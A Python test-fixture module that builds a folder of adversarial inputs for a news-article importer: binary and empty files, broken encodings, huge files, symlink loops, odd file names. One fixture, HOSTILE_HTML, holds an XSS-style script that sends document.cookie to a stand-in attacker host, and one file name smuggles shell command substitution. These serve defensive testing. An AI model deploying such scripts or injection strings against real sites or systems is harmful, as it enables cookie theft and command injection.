"""A folder of nasty inputs for the importer, written at test time.

Nothing here is committed as data: a 50 MB file, a named pipe, a symbolic link
loop and a file name with a newline in it do not belong in a repository. Each
case says what the importer must do with it: store it as an article, or fail it
alone with a message that says why (``reason``, a regular expression).

    cases = write_corpus(tmp_path / "nasty")
"""

from __future__ import annotations

import os
import random
from dataclasses import dataclass
from pathlib import Path

ADDED = "added"
FAILED = "failed"


@dataclass(frozen=True)
class Case:
    name: str  # what the case is
    path: Path  # the file (or folder) it wrote
    expect: str  # ADDED or FAILED
    reason: str = ""  # regular expression the failure message matches
    note: str = ""


def article(n: int, city: str = "Chicago") -> str:
    """A short, unique, realistic article with quotes and an arrest count."""
    return (
        f"ICE arrests {n + 12} in {city}\n\n"
        f"Federal agents arrested {n + 12} people in {city} this week, officials said.\n\n"
        f"“We are targeting public safety threats first,” said ICE spokesman Bryan Cox "
        f"in statement number {n}.\n\n"
        f"“Families are terrified,” said Maria Lopez, an organizer.\n"
    )


HOSTILE_HTML = """<!doctype html>
<html><head>
<meta charset="utf-8">
<meta http-equiv="refresh" content="0; url=http://attacker.invalid/">
<base href="http://attacker.invalid/">
<link rel="stylesheet" href="http://attacker.invalid/style.css">
<title>Agents arrest 57 in Denver</title>
<script src="http://attacker.invalid/evil.js"></script>
<script>fetch('http://attacker.invalid/steal?c=' + document.cookie); alert('xss')</script>
<style>body { background: url(http://attacker.invalid/bg.png) }</style>
</head><body onload="alert('onload')">
<iframe src="http://attacker.invalid/frame"></iframe>
<form action="http://attacker.invalid/post" method="post"><input name="q"><button>Go</button></form>
<article>
<h1>Agents arrest 57 in Denver</h1>
<p>DENVER — Federal agents arrested 57 people in Denver this week, officials said on Tuesday.
<img src="http://attacker.invalid/pixel.gif" onerror="alert('img')"></p>
<p>“We are targeting public safety threats first,” said ICE spokesman Bryan Cox.
<a href="javascript:alert('link')">click</a> <a href="http://attacker.invalid/">more</a></p>
<svg><foreignObject><iframe src="http://attacker.invalid/svg"></iframe></foreignObject></svg>
<object data="http://attacker.invalid/flash.swf"></object>
<embed src="http://attacker.invalid/embed">
<video src="http://attacker.invalid/v.mp4" poster="http://attacker.invalid/p.jpg"></video>
<p>“Families are terrified,” said Maria Lopez, an organizer with a local group.</p>
<p>The operation lasted four days, according to the agency's statement on Wednesday.</p>
</article>
<script>document.write('<img src=http://attacker.invalid/late.gif>')</script>
</body></html>
"""


def write_corpus(folder: Path, *, big_mb: int = 50, quick: bool = False) -> list[Case]:
    """Write the nasty inputs into ``folder`` (created); return what each must do.

    ``quick`` leaves out the long files that import fine but take a second or two each.
    """
    folder.mkdir(parents=True)
    rng = random.Random(7)
    cases: list[Case] = []

    def file(name: str | bytes, data: bytes | str, expect: str, reason: str = "", note=""):
        if quick and note and "child process" in note or quick and name in _SLOW:
            return None
        path = Path(os.fsdecode(os.path.join(os.fsencode(folder), os.fsencode(name))))
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
        display = os.fsdecode(name) if isinstance(name, bytes) else name
        cases.append(Case(note or display, path, expect, reason))
        return path

    # -- empty and not text ------------------------------------------------------------
    file("empty.txt", b"", FAILED, "empty")
    file("only-whitespace.txt", b" \n\r\n\t \n", FAILED, "empty")
    file("bom-only.txt", b"\xef\xbb\xbf", FAILED, "empty")
    file("binary.txt", bytes(rng.randrange(256) for _ in range(65536)), FAILED, "binary")
    file("nul-bytes.txt", article(1).replace("arrested", "arr\x00ested"), FAILED, "NUL")
    file("png-as-text.txt", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(2000), FAILED, "binary")
    file("binary.html", bytes(rng.randrange(256) for _ in range(20000)), FAILED, "binary")
    big = b"ICE agents arrested 40 people in Chicago. " * (big_mb * 1024 * 1024 // 42 + 1)
    file(f"big-{big_mb}mb.txt", big, FAILED, "too large")

    # -- encodings --------------------------------------------------------------------
    file("windows-1252.txt", article(2).replace("Lopez", "López").encode("cp1252"), ADDED)
    file(
        "invalid-utf8-undefined.txt",
        article(3).encode("utf-8") + b"\x81\x8d\x8f\x90\x9d",
        FAILED,
        r"not valid text \(cp1252",
    )
    file("utf16-with-bom.txt", article(4).encode("utf-16"), ADDED)
    file("utf16-le-no-bom.txt", article(5).encode("utf-16-le"), FAILED, "UTF-16.*byte order")
    file("utf16-be-no-bom.txt", article(6).encode("utf-16-be"), FAILED, "UTF-16.*byte order")
    file("utf16-broken.txt", b"\xff\xfe" + article(7).encode("utf-16-le")[:-1], FAILED, "utf-16")
    file("utf32-with-bom.html", article(8).encode("utf-32"), ADDED, note="UTF-32 page, no tags")
    file("cr-line-endings.txt", article(9).replace("\n", "\r"), ADDED)
    file("control-characters.txt", article(10).replace(" said", "\x01\x07\x1b said"), ADDED)

    # -- long lines and sizes ------------------------------------------------------------
    file("long-line-5mb.txt", "word " * 1_000_000, FAILED, "too long")
    prose = "Agents arrested 40 people in Chicago this week, officials said. "
    file("long-line-120k.txt", prose * 1900, ADDED, note="a 120,000-character line")
    file("many-short-lines.txt", "a\n" * 60_000, ADDED, note="60,000 lines")

    # -- quotation marks, scripts, emoji -------------------------------------------------
    file(
        "unbalanced-quotes.txt",
        "“He said “they said ‘we said “nothing” at all’ and left,” he said.\n\n"
        + '"Open and never closed, said Cox.\n\n'
        + "Closed” without opening,” said Lopez.\n\n"
        + '""""""""""""“”“”“”‘’‘’„“‚‘«»‹›\n\n'
        + article(11),
        ADDED,
    )
    file(
        "rtl-and-emoji.txt",
        "اعتقل عملاء فيدراليون 40 شخصا في شيكاغو هذا الأسبوع 👮‍♀️🇺🇸\n\n"
        + "“אנחנו כאן,” אמר הדובר. ‮reversed‬ text \u200f\u200e\u2066isolate\u2069\n\n"
        + "“We are here 👨‍👩‍👧‍👦 for families,” said Maria Lopez 🏳️‍🌈, an organizer.\n\n"
        + "Combining: e\u0301\u0301\u0301 Z\u0334\u0335\u0336algo, 𝔘𝔫𝔦𝔠𝔬𝔡𝔢 𝟒𝟎 arrests.\n\n"
        + article(12),
        ADDED,
    )
    file("hostile.html", HOSTILE_HTML, ADDED, note="HTML with scripts, iframes, forms, images")
    file(
        "no-article.html", "<html><body><nav>Home | About</nav></body></html>", FAILED, "no article"
    )
    script = "<script>" + "var x = '<p>not text</p>';" * 200_000 + "</script>"
    file(
        "huge-inline-script.html",
        HOSTILE_HTML.replace("<article>", script + "<article>").replace("57", "58"),
        ADDED,
        note="a 5 MB inline script",
    )
    markup = '<p class="story-body__paragraph" data-component="text-block" data-index="{i}">'
    paragraphs = "".join(
        f"{markup.format(i=i)}<span>Paragraph {i}: agents arrested {i} people in Chicago, "
        "officials said.</span></p>\n"
        for i in range(4000)
    )
    page = f"<html><body><article><h1>A long page</h1>{paragraphs}</article></body></html>"
    file("big-page.html", page, ADDED, note="a 1.2 MB page (read in a child process)")

    # -- odd names -----------------------------------------------------------------------
    file("new\nline.txt", article(13), ADDED)
    file("emoji 📰 story.txt", article(14), ADDED)
    file("-leading-dash.txt", article(15), ADDED)
    file("  spaces  around  .txt", article(16), ADDED)
    file("quote\"s and 'apostrophes' ; $(echo no) `id`.txt", article(17), ADDED)
    file(b"not-utf8-\xff\xfe-name.txt", article(18), ADDED, note="a name that is not UTF-8")
    file("UPPER.TXT", article(19), ADDED)
    file("x" * 240 + ".txt", article(20), ADDED, note="a 244-byte name")
    file("d/" * 120 + "deep.txt", article(21), ADDED, note="120 folders deep")

    # -- things that are not regular files -----------------------------------------------
    (folder / "folder.txt").mkdir()
    file("folder.txt/inside.txt", article(22), ADDED, note="an article in a folder named x.txt")
    loop = folder / "loop"
    loop.mkdir()
    (loop / "self").symlink_to("..", target_is_directory=True)  # a folder loop
    (loop / "a.txt").symlink_to("b.txt")
    (loop / "b.txt").symlink_to("a.txt")
    cases.append(Case("link loop a", loop / "a.txt", FAILED, "symbolic link loop"))
    cases.append(Case("link loop b", loop / "b.txt", FAILED, "symbolic link loop"))
    (folder / "broken-link.txt").symlink_to(folder / "does-not-exist.txt")
    cases.append(Case("broken link", folder / "broken-link.txt", FAILED, "broken symbolic link"))
    target = folder.parent / f"{folder.name}-link-target.txt"
    target.write_text(article(23), encoding="utf-8")
    (folder / "linked-article.txt").symlink_to(target)
    cases.append(Case("link to an article", folder / "linked-article.txt", ADDED))
    if hasattr(os, "mkfifo"):
        os.mkfifo(folder / "named-pipe.txt")
        cases.append(Case("named pipe", folder / "named-pipe.txt", FAILED, "named pipe"))
    if os.path.exists("/dev/zero"):
        (folder / "device.txt").symlink_to("/dev/zero")
        cases.append(Case("link to /dev/zero", folder / "device.txt", FAILED, "device"))

    unreadable = file("unreadable.txt", article(24), FAILED, "Permission denied")
    unreadable.chmod(0)
    if _readable(unreadable):  # root, or a file system without permissions
        cases[-1] = Case("unreadable (readable here)", unreadable, ADDED, note="privileged")
    return cases


_SLOW = ("long-line-120k.txt", "many-short-lines.txt", "huge-inline-script.html", "big-page.html")


def _readable(path: Path) -> bool:
    try:
        with path.open("rb"):
            return True
    except OSError:
        return False


def slow_article() -> str:
    """A text the extraction rules take superlinear time over (tens of seconds at this size)."""
    return "in Atlanta, Georgia, " * 20_000
